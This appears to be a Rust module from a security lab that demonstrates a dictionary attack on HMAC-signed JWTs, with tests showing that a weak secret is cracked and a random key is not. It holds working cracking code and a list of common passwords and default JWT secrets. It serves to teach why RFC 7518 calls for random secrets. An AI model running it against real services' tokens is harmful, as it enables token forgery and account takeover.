//! A dictionary attack on an HMAC-signed token: every candidate secret is tried until one
//! makes the same MAC. It shows why RFC 7518 section 3.2 wants secrets at least as long as the
//! hash, drawn at random: a secret a person chose is usually in a list like this one.

use super::alg::{Alg, Family};
use super::keys::Key;
use super::sign::sign;

/// Common words and password stems; with the case forms and suffixes below they make the
/// candidate list. Written for this lab: a short list of the kind every attacker starts with.
const WORDS: &[&str] = &[
    "secret", "password", "passw0rd", "admin", "administrator", "root", "toor", "letmein", "welcome", "qwerty",
    "qwertyuiop", "asdfgh", "asdfghjkl", "zxcvbn", "abc", "abcdef", "abcd1234", "iloveyou", "monkey", "dragon",
    "master", "shadow", "sunshine", "princess", "football", "baseball", "soccer", "hockey", "batman", "superman",
    "trustno1", "hello", "hellothere", "freedom", "whatever", "mustang", "michael", "jennifer", "jordan", "hunter",
    "ranger", "buster", "tigger", "charlie", "robert", "thomas", "daniel", "andrew", "joshua", "matthew",
    "jessica", "ashley", "amanda", "nicole", "summer", "winter", "spring", "autumn", "orange", "banana",
    "apple", "cherry", "pepper", "ginger", "coffee", "cookie", "chocolate", "computer", "internet", "server",
    "database", "backend", "frontend", "service", "token", "jwt", "jwtsecret", "jwt_secret", "jwt-secret", "secretkey",
    "secret_key", "secret-key", "mysecret", "my_secret", "my-secret", "supersecret", "topsecret", "changeme", "changeit", "default",
    "example", "test", "testing", "tester", "demo", "sample", "dev", "develop", "development", "staging",
    "production", "prod", "local", "localhost", "api", "apikey", "api_key", "key", "mykey", "privatekey",
    "private", "public", "signing", "signingkey", "hmac", "hs256", "sha256", "auth", "authentication", "authorization",
    "login", "logon", "user", "username", "guest", "access", "accesstoken", "refresh", "session", "cookie",
    "node", "express", "django", "flask", "rails", "laravel", "spring", "dotnet", "golang", "rust",
    "python", "java", "javascript", "typescript", "react", "angular", "vue", "docker", "kubernetes", "cloud",
    "azure", "google", "amazon", "github", "gitlab", "linux", "ubuntu", "windows", "oracle", "mysql",
    "postgres", "mongodb", "redis", "nginx", "apache", "tomcat", "jenkins", "ansible", "vagrant", "company",
    "startup", "project", "myapp", "app", "application", "website", "webapp", "portal", "shop", "store",
    "bank", "money", "dollar", "bitcoin", "crypto", "blockchain", "starwars", "pokemon", "minecraft", "matrix",
    "love", "lovely", "angel", "family", "friend", "friends", "secret123", "pass", "passwd", "passphrase",
    "your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", "a-string-secret-at-least-256-bits-long", "shhhhh", "keyboard", "keyboardcat", "nosecret", "s3cr3t", "p@ssw0rd",
];

const SUFFIXES: &[&str] = &["", "1", "12", "123", "1234", "12345", "!", "!!", "1!", "123!", "@", "#", "01", "007", "2023", "2024", "2025", "2026", "_1", "-1"];

/// The candidate secrets, in the order they are tried: each word as written, Capitalised and
/// UPPER, each with every suffix; duplicates removed. About 12,000.
pub fn candidates() -> Vec<String> {
    let mut out = Vec::with_capacity(WORDS.len() * 3 * SUFFIXES.len());
    let mut seen = std::collections::HashSet::new();
    for suffix in SUFFIXES {
        for word in WORDS {
            let mut cap = word.to_string();
            if let Some(first) = cap.get_mut(0..1) {
                first.make_ascii_uppercase();
            }
            for form in [word.to_string(), cap, word.to_ascii_uppercase()] {
                let c = format!("{form}{suffix}");
                if seen.insert(c.clone()) {
                    out.push(c);
                }
            }
        }
    }
    out
}

/// Tries `candidates[start..start + count]` against the token's MAC. Returns the index of the
/// secret if found, and how many were tried.
pub fn try_range(alg: Alg, signing_input: &[u8], signature: &[u8], candidates: &[String], start: usize, count: usize) -> (Option<usize>, usize) {
    if alg.family() != Family::Hmac {
        return (None, 0);
    }
    let end = (start + count).min(candidates.len());
    for (i, c) in candidates.iter().enumerate().take(end).skip(start) {
        let mac = sign(alg, &Key::Secret(c.as_bytes().to_vec()), signing_input, 0).unwrap_or_default();
        if mac == signature {
            return (Some(i), i + 1 - start);
        }
    }
    (None, end.saturating_sub(start))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jwt::scenario::make_token;
    use crate::jwt::token::{decode, Decoded};

    #[test]
    fn the_list_is_over_ten_thousand_distinct_candidates() {
        let c = candidates();
        assert!(c.len() >= 10_000, "{}", c.len());
        let unique: std::collections::HashSet<&String> = c.iter().collect();
        assert_eq!(unique.len(), c.len());
        assert!(c.contains(&"Secret123".to_string()) && c.contains(&"your-256-bit-secret".to_string()));
    }

    #[test]
    fn a_weak_secret_is_found_and_a_strong_one_is_not() {
        let c = candidates();
        let weak = make_token("{\"alg\":\"HS256\"}", "{\"sub\":\"x\"}", Alg::HS256, Some(&Key::Secret(b"Summer2025".to_vec())));
        let Decoded::Jws(j) = decode(&weak).unwrap() else { panic!() };
        let (found, _) = try_range(Alg::HS256, j.signing_input().as_bytes(), &j.signature, &c, 0, c.len());
        assert_eq!(found.map(|i| c[i].as_str()), Some("Summer2025"));
        let strong = make_token("{\"alg\":\"HS256\"}", "{\"sub\":\"x\"}", Alg::HS256, Some(&Key::Secret(vec![0x5a; 32])));
        let Decoded::Jws(j) = decode(&strong).unwrap() else { panic!() };
        assert_eq!(try_range(Alg::HS256, j.signing_input().as_bytes(), &j.signature, &c, 0, c.len()), (None, c.len()));
    }
}
